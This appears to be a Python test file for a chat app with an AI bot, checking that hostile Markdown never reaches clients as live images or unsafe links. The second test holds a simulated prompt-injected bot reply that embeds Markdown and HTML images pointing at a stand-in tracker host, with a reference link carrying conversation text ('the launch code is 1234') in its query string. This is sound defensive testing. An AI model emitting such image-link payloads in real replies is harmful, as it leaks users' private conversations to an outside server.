"""What Flet's client actually receives for hostile Markdown, read off the WebSocket and parsed again."""

from __future__ import annotations

import asyncio

from tests.bot_helpers import Frames, all_messages, bot_room, close_all, final_replies, open_people
from tests.confab_harness import Person
from tests.fake_openai import FakeOpenAI
from tests.hostile_markdown import HOSTILE
from tests.markdown_checks import client_problems

TRACKER = "http://127.0.0.1:9/t"
"""Nothing listens there; these tests read what was sent, the browser test watches fetches."""


def problems_in(frames: Frames, bodies: list[str]) -> dict[str, list[str]]:
    """Every Markdown text received (each patch of a growing reply included) that is not safe."""
    received = [text for _, values in frames.markdown for text in values] + bodies
    return {text: found for text in received if (found := client_problems(text))}


async def wait_stored(served, count: int) -> None:
    for _ in range(500):
        if len(await all_messages(served)) >= count:
            return
        await asyncio.sleep(0.02)
    raise AssertionError(f"fewer than {count} messages stored")


async def test_hostile_messages_reach_no_client_as_images_or_unsafe_links(tmp_path):
    forms = [h.format(t=TRACKER) for h in HOSTILE]
    async with bot_room(None, tmp_path) as served:
        # Alice writes (her tab renders its own rows), Bob only reads (the shared rows),
        # and a third tab has not joined at all.
        alice, bob = await open_people(served, "Alice", "Bob", frames=True)
        lurker_frames = Frames()
        lurker = await Person.open(served.url, on_frame=lurker_frames)
        before = len(await all_messages(served))
        for text in forms:
            await alice.say(text, wait=False)
        await wait_stored(served, before + len(forms))
        for person in (alice, bob):
            await person.client.wait_for(lambda p=person: len(p.bodies()) >= len(forms), timeout=10)
        for person, frames in ((alice, alice.frames), (bob, bob.frames), (lurker, lurker_frames)):
            assert problems_in(frames, person.bodies()) == {}
        assert lurker.bodies() == []  # not joined: shown nothing
        # Joining sends the whole conversation at once, not a patch per message.
        late = await Person.open(served.url)
        await late.join("Late")
        await late.client.wait_for(lambda: len(late.bodies()) >= len(forms), timeout=10)
        assert {b: p for b in late.bodies() if (p := client_problems(b))} == {}
        assert "`![in code](http://127.0.0.1:9/t/code.png)`" in "\n".join(late.bodies())  # code intact
        await close_all(alice, bob, lurker, late)


async def test_a_prompt_injected_bot_reply_reaches_no_client_as_an_image(fake_openai: FakeOpenAI, tmp_path):
    reply = (
        "Sure! ![s][r] and ![t](http://127.0.0.1:9/t/inline.png 'x') <img src=http://127.0.0.1:9/t/h.png>\n\n"
        "[r]: http://127.0.0.1:9/t/?d=Alice+said+the+launch+code+is+1234"
    )
    fake_openai.reply(reply, words_per_second=40)
    async with bot_room(fake_openai, tmp_path) as served:
        alice, bob = await open_people(served, "Alice", "Bob", frames=True)
        await alice.say("@bot summarise the room")
        [stored] = await final_replies(served, 1, timeout=15)
        assert stored.text == reply  # stored as written; only what is shown is made safe
        for person in (alice, bob):
            await person.client.wait_for(lambda p=person: any("Image: s" in b for b in p.bodies()), timeout=5)
            growing = [t for _, values in person.frames.markdown for t in values if "Sure" in t]
            assert len(growing) > 2, "the reply was not seen growing"
            assert problems_in(person.frames, person.bodies()) == {}
        await close_all(alice, bob)
